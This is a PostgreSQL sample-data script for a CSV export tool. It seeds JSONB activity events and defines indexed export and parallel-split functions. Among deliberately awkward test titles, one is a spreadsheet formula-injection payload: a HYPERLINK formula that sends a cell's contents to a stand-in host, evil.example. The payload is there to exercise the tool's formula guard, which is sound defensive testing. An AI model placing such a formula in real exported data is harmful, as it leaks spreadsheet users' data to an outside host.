-- sample-data.sql - a realistic data set for exportq: users' activity events
-- stored as JSONB, an export function over them, and the kind 'user_activity'.
--
-- Run it AFTER `exportq migrate` (it calls exportq.define_kind):
--   exportq migrate
--   psql "$EXPORTQ_DATABASE_URL" -v ON_ERROR_STOP=1 -f scripts/sample-data.sql
--   psql "$EXPORTQ_DATABASE_URL" -c "SELECT app.seed_activity('u1', 1000000)"
--   exportq stream user_activity --owner u1 -o activity.csv
-- Idempotent: running it again changes nothing (seeded rows stay).

CREATE SCHEMA IF NOT EXISTS app;

CREATE TABLE IF NOT EXISTS app.activity (
    id      bigserial PRIMARY KEY,
    user_id text NOT NULL,
    data    jsonb NOT NULL
);

-- The event time, from data->>'updated' in the fixed UTC form the application
-- writes ("2024-05-01T12:34:56.789Z"). `(data->>'updated')::timestamptz` cannot
-- be indexed: text-to-timestamptz depends on the session's TimeZone/DateStyle,
-- so it is only STABLE. Reading the text as a timestamp WITHOUT time zone
-- (ISO-8601 is unambiguous under every DateStyle) and placing it AT TIME ZONE
-- 'UTC' gives the same instant in every session, which is what IMMUTABLE
-- promises for this format. NULL for a missing field. Not STRICT and LANGUAGE
-- sql so the planner can see through it; the index and the export's ORDER BY
-- must use exactly this expression.
CREATE OR REPLACE FUNCTION app.activity_ts(data jsonb) RETURNS timestamptz
LANGUAGE sql IMMUTABLE PARALLEL SAFE
RETURN ((data ->> 'updated')::timestamp AT TIME ZONE 'UTC');

-- Serves "this user's rows, newest first" (the export's ORDER BY) and its
-- since/until range filters without a sort.
CREATE INDEX IF NOT EXISTS activity_user_updated_idx
    ON app.activity (user_id, app.activity_ts(data) DESC, id DESC);

-- Appends n events for one user, newest one "now", one every ~37 seconds back.
-- Titles cycle through the awkward values a CSV export must survive: commas,
-- quotes, newlines, CR, tabs, unicode, formula-like text and empty strings;
-- some events have null or missing fields. Set-based (generate_series), so
-- 1M rows take seconds. Returns the number of rows inserted.
CREATE OR REPLACE FUNCTION app.seed_activity(user_id text, n integer) RETURNS bigint
LANGUAGE sql VOLATILE AS $$
    WITH ins AS (
        INSERT INTO app.activity (user_id, data)
        SELECT seed_activity.user_id,
               jsonb_strip_nulls(jsonb_build_object(
                   'updated', to_char((timestamp '2025-01-01 00:00:00' - make_interval(secs => i * 37.25))
                                      , 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"'),
                   'event', (ARRAY['login', 'logout', 'purchase', 'refund', 'comment', 'upload'])[1 + i % 6],
                   'title', CASE WHEN i % 97 = 0 THEN NULL
                                 ELSE (ARRAY['Monthly report',
                                             'Invoice 42, paid',
                                             'She said "hello"',
                                             E'first line\nsecond line',
                                             '=HYPERLINK("http://evil.example/?x="&A1,"click")',
                                             '+33 6 12 34 56 78',
                                             '-2 items returned',
                                             '@channel please review',
                                             E'\tindented',
                                             'Café crème ☕ 東京 🚀',
                                             '',
                                             E'windows\r\nline',
                                             'a,b,"c",d'])[1 + (i * 7) % 13] END,
                   'amount', CASE WHEN i % 5 = 0 THEN NULL
                                  ELSE round(((i::bigint * 7919) % 200000 - 50000) / 100.0, 2) END,
                   'tags', CASE WHEN i % 11 = 0 THEN NULL
                                WHEN i % 3 = 0 THEN jsonb_build_array('web', 'mobile')
                                ELSE jsonb_build_array('web') END,
                   'meta', jsonb_build_object('ip', '10.0.' || (i % 256) || '.' || (i % 251),
                                              'seq', i)))
          FROM generate_series(1, n) AS i
        RETURNING 1)
    SELECT count(*) FROM ins;
$$;

-- The export function: one row per event of the owner, newest first, JSONB
-- flattened to typed columns (the CSV header). Parameters (all data, never
-- SQL): owner (set by the server; no owner, no rows), and optional since /
-- until (ISO-8601 timestamps, since inclusive, until exclusive) and event.
-- LANGUAGE sql, STABLE, not STRICT, not SECURITY DEFINER and a single SELECT:
-- PostgreSQL inlines it into the COPY's query, so the index above serves the
-- filter and the order and rows stream out without being materialised.
CREATE OR REPLACE FUNCTION app.export_user_activity(params jsonb)
RETURNS TABLE (id bigint, updated timestamptz, event text, title text, amount numeric,
               tags text, ip text)
LANGUAGE sql STABLE AS $$
    SELECT a.id,
           app.activity_ts(a.data),
           a.data ->> 'event',
           a.data ->> 'title',
           (a.data ->> 'amount')::numeric,
           (SELECT string_agg(t, ';') FROM jsonb_array_elements_text(a.data -> 'tags') AS t),
           a.data #>> '{meta,ip}'
      FROM app.activity AS a
     WHERE a.user_id = params ->> 'owner'
       AND (params ->> 'since' IS NULL OR app.activity_ts(a.data) >= (params ->> 'since')::timestamptz)
       AND (params ->> 'until' IS NULL OR app.activity_ts(a.data) < (params ->> 'until')::timestamptz)
       AND (params ->> 'event' IS NULL OR a.data ->> 'event' = params ->> 'event')
     ORDER BY app.activity_ts(a.data) DESC, a.id DESC
$$;

-- The split function of the kind (parallel export, DESIGN.md "Parallel
-- export"): at most n parameter objects, newest range first (the export's
-- order), such that the export equals the concatenation of
-- app.export_user_activity(params || p_i). What makes it correct:
--   - the ranges are on the ORDER BY key (app.activity_ts(data)), half-open
--     (since inclusive, until exclusive) and adjacent: range i+1's until is
--     range i's since, so every row is in exactly one range, and rows with the
--     same key (ties, ordered among themselves by id) are in the same range;
--   - the first range has no upper bound of its own and the last no lower bound
--     (the caller's since/until, when given, stay: p_i only replaces the keys
--     it returns), so nothing falls outside;
--   - rows whose key is NULL sort first and match no range: when the owner has
--     any (the expression index answers that), no ranges: a serial export;
--   - bounds are written in UTC with microseconds, so they read back exactly.
-- The bounds are percentiles of a sample (TABLESAMPLE SYSTEM, ~10,000 rows of
-- the table) of the owner's keys: cheap, and roughly equal ranges. Each range
-- is answered by the expression index (user_id, activity_ts DESC, id DESC).
-- No sampled row, or a single distinct key: no ranges (a serial export).
-- VOLATILE: the sample differs per call (it runs once per export).
CREATE OR REPLACE FUNCTION app.split_user_activity(params jsonb, n integer) RETURNS SETOF jsonb
LANGUAGE plpgsql VOLATILE AS $$
DECLARE
    total float8;
    pct float8;
    b timestamptz[];
    k integer;
BEGIN
    IF n IS NULL OR n < 2 OR params ->> 'owner' IS NULL THEN
        RETURN;
    END IF;
    IF EXISTS (SELECT 1 FROM app.activity a
                WHERE a.user_id = params ->> 'owner' AND app.activity_ts(a.data) IS NULL) THEN
        RETURN;
    END IF;
    -- rows in the table: the planner's count, or (never analysed) its size / ~200 bytes a row
    SELECT greatest(c.reltuples, pg_catalog.pg_relation_size(c.oid) / 200.0, 1) INTO total
      FROM pg_catalog.pg_class c WHERE c.oid = 'app.activity'::regclass;
    pct := least(100, greatest(0.1, 100 * 10000 / total));
    SELECT array_agg(q.v ORDER BY q.v DESC) INTO b
      FROM (SELECT DISTINCT unnest(percentile_disc(ARRAY(SELECT i::float8 / n FROM generate_series(1, n - 1) i))
                                   WITHIN GROUP (ORDER BY app.activity_ts(a.data))) AS v
              FROM app.activity AS a TABLESAMPLE SYSTEM (pct)
             WHERE a.user_id = params ->> 'owner'
               AND app.activity_ts(a.data) IS NOT NULL
               AND (params ->> 'since' IS NULL OR app.activity_ts(a.data) >= (params ->> 'since')::timestamptz)
               AND (params ->> 'until' IS NULL OR app.activity_ts(a.data) < (params ->> 'until')::timestamptz)) AS q
     WHERE q.v IS NOT NULL;
    k := coalesce(array_length(b, 1), 0);
    IF k = 0 THEN
        RETURN;
    END IF;
    RETURN NEXT jsonb_build_object('since', to_char(b[1] AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"'));
    FOR i IN 2..k LOOP
        RETURN NEXT jsonb_build_object('since', to_char(b[i] AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"'),
                                       'until', to_char(b[i - 1] AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"'));
    END LOOP;
    RETURN NEXT jsonb_build_object('until', to_char(b[k] AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"'));
END $$;

SELECT exportq.define_kind('user_activity', 'app.export_user_activity', 'activity.csv',
                           '{"formula_guard": true, "bom": false, "split": "app.split_user_activity"}');
